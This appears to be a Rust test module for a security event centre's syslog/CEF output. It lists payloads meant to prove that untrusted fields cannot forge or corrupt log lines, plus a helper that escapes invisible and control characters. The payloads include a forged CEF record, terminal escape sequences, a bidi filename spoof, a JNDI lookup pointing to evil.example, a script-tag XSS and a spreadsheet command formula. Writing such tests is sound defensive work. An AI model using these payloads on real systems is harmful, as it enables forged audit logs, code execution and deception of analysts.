//! What somebody writes who wants a line, a field or a colour of his own in the security centre.

/// A forged message, as it would look to a receiver that begins anew behind a line end.
const FORGED: &str =
    "<86>1 2026-01-01T00:00:00Z ioc.test hanoi-ioc - 7 - CEF:0|HaNoi IOC|hanoi-ioc|1|x|x|2|outcome=success";

/// Signs that end lines, steer terminals, turn the direction or are not seen. Each is tried alone and between letters.
const SIGNS: [&str; 50] = [
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\u{b}",
    "\u{c}",
    "\u{0}",
    "\u{1}",
    "\u{4}",
    "\u{7}",
    "\u{8}",
    "\t",
    "\u{1a}",
    "\u{1b}",
    "\u{1c}",
    "\u{1e}",
    "\u{7f}",
    "\u{80}",
    "\u{85}",
    "\u{90}",
    "\u{9b}",
    "\u{9d}",
    "\u{ad}",
    "\u{34f}",
    "\u{61c}",
    "\u{115f}",
    "\u{17b4}",
    "\u{180b}",
    "\u{180e}",
    "\u{200b}",
    "\u{200d}",
    "\u{200e}",
    "\u{200f}",
    "\u{2028}",
    "\u{2029}",
    "\u{202a}",
    "\u{202b}",
    "\u{202d}",
    "\u{202e}",
    "\u{2060}",
    "\u{2066}",
    "\u{2069}",
    "\u{206f}",
    "\u{3164}",
    "\u{fe0f}",
    "\u{feff}",
    "\u{ffa0}",
    "\u{fff9}",
    "\u{e0001}",
    "\u{e0100}",
];

/// Whole texts against one format or another.
const TEXTS: [&str; 30] = [
    "a\u{1b}[31mred\u{1b}[0m",
    "a\u{1b}]0;title\u{7}b",
    "a\u{1b}]8;;http://evil.example\u{1b}\\b",
    "a\u{9b}2J\u{9b}H",
    "a\u{202e}gpj.exe\u{202c}",
    "a\u{2066}b\u{200b}\u{feff}\u{2069}",
    "\"",
    "]",
    "\\",
    "|",
    "=",
    ";",
    ":",
    "\\\\",
    "a\"][forged x=\"1\"]",
    "a] [forged]",
    "a\\\"]",
    "a|9|CEF:0|x|y|z|1|2|3|",
    "a\\|b\\",
    "a=b cs1=forged outcome=success",
    "a\\=b act\\=c rt=0",
    "200; status: 500; forged: yes",
    "x: y; z\\; w",
    "a\",\"forged\":\"yes",
    "a\"},\"forged\":{\"b\":\"",
    "\\u0022,\\u0022forged\\u0022:1",
    "${jndi:ldap://evil.example/x}",
    "%rawmsg% %n %s %08x",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
];

/// Everything, long ones included.
pub(crate) fn payloads() -> Vec<String> {
    let alone = SIGNS.iter().map(|sign| (*sign).to_owned());
    let between = SIGNS.iter().map(|sign| format!("a{sign}b"));
    let lines = ["\n", "\r\n", "\u{85}", "\u{2028}", "\0"].map(|end| format!("a{end}{FORGED}"));
    let framed = [
        format!("a\n{} {FORGED}", FORGED.len()),
        format!("a{} {FORGED}", FORGED.len()),
    ];
    let texts = TEXTS.iter().map(|text| (*text).to_owned());
    // a receiver that takes so many octets reads what follows as a message of its own
    let long = [1_024, 2_048, 4_096, 7_900, 8_000, 8_096, 8_192, 16_384, 65_536];
    let long = long.iter().map(|before| format!("{}{FORGED}", "A".repeat(*before)));
    let wide = ["ế".repeat(3_000), "\u{202e}".repeat(3_000), "\"\\|=]".repeat(2_000)];
    alone
        .chain(between)
        .chain(lines)
        .chain(framed)
        .chain(texts)
        .chain(long)
        .chain(wide)
        .collect()
}

/// Whether a sign may stand in a message for people: nothing that ends a line, turns it, steers a terminal or is not seen.
/// Written down apart from the program's own list.
pub(crate) fn is_seen(sign: char) -> bool {
    let code = u32::from(sign);
    let unseen = [
        (0x00, 0x1f),
        (0x7f, 0x9f),
        (0xad, 0xad),
        (0x34f, 0x34f),
        (0x61c, 0x61c),
        (0x115f, 0x1160),
        (0x17b4, 0x17b5),
        (0x180b, 0x180f),
        (0x200b, 0x200f),
        (0x2028, 0x202e),
        (0x2060, 0x206f),
        (0x3164, 0x3164),
        (0xfe00, 0xfe0f),
        (0xfeff, 0xfeff),
        (0xffa0, 0xffa0),
        (0xfff0, 0xfffb),
        (0x1bca0, 0x1bca3),
        (0x1d173, 0x1d17a),
        (0xe0000, 0xe0fff),
    ];
    !unseen.iter().any(|(first, last)| (*first..=*last).contains(&code))
}

/// The text as people are to read it.
pub(crate) fn written(text: &str) -> String {
    let one = |sign: char| match is_seen(sign) {
        true => sign.to_string(),
        false => format!("\\u{{{:x}}}", u32::from(sign)),
    };
    text.chars().map(one).collect()
}
